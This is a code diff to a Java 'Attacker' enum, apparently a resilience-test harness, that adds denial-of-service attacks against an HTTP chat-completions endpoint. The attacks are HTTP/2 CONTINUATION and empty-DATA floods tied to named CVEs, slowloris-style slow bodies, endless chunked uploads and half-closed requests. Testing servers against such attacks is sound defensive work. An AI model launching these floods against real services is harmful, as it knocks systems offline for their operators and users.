@@ -54,6 +54,71 @@ enum Attacker {
   /** Says in what order its streams shall be served (CVE-2019-9513). */
   PRIORITIES("priorities", Frames::priority),
 
+  /** Headers that never end (CVE-2024-27316). */
+  CONTINUATIONS("headers that go on, with nothing", i -> Frames.nothingMoreOfHeaders(1)) {
+    @Override
+    void greet(OutputStream out) throws IOException {
+      super.greet(out);
+      out.write(Frames.beginHeaders(1));
+    }
+  },
+
+  /** A body of nothing that never ends (CVE-2019-9518). */
+  EMPTY_DATA("pieces of a body with nothing in them", i -> Frames.nothingOfBody(1)) {
+    @Override
+    void greet(OutputStream out) throws IOException {
+      super.greet(out);
+      out.write(Frames.begin(1));
+    }
+  },
+
+  /** Never comes to the end of a body. */
+  SLOW_BODIES("2,000 connections, each with one byte of a body a second", 2000, 1) {
+    @Override
+    void greet(OutputStream out) throws IOException {
+      out.write(post("content-length: 1000000"));
+    }
+
+    @Override
+    boolean annoy(Socket socket, int turn) throws IOException {
+      socket.getOutputStream().write(' ');
+      return true;
+    }
+  },
+
+  /** The same, but fast: as large as what is still looked at, and then larger. */
+  LARGE_BODIES("5 connections, each with 5 MB a second of a body without an end", 5, 20) {
+    @Override
+    void greet(OutputStream out) throws IOException {
+      out.write(post("transfer-encoding: chunked"));
+    }
+
+    @Override
+    boolean annoy(Socket socket, int turn) throws IOException {
+      var chunk = new ByteArrayOutputStream();
+      chunk.writeBytes((Integer.toHexString(CHUNK_BYTES) + "\r\n").getBytes(US_ASCII));
+      chunk.writeBytes(new byte[CHUNK_BYTES]);
+      chunk.writeBytes("\r\n".getBytes(US_ASCII));
+      socket.getOutputStream().write(chunk.toByteArray());
+      return true;
+    }
+  },
+
+  /** Says half of what it wants, and that it will say no more. */
+  HALF_CLOSED("500 connections a second, each closed by half amid a request", 10, 50) {
+    @Override
+    void greet(OutputStream out) throws IOException {
+      out.write(post("content-length: 100"));
+      out.write('{');
+    }
+
+    @Override
+    boolean annoy(Socket socket, int turn) throws IOException {
+      socket.shutdownOutput();
+      return false;
+    }
+  },
+
   /** Sends what is no HTTP. */
   GARBAGE("500 connections a second, each with 1 KB of noise", 10, 50) {
     @Override
@@ -68,6 +133,8 @@ enum Attacker {
       return false;
     }
   };
+
+  private static final int CHUNK_BYTES = 256 << 10;
 
   private final String description;
   private final int connections;
@@ -87,6 +154,11 @@ enum Attacker {
     this.connections = 10;
     this.turnsPerSecond = 50;
     this.frames = frames;
+  }
+
+  private static byte[] post(String header) {
+    return ("POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n" + header + "\r\n\r\n")
+        .getBytes(US_ASCII);
   }
 
   String description() {
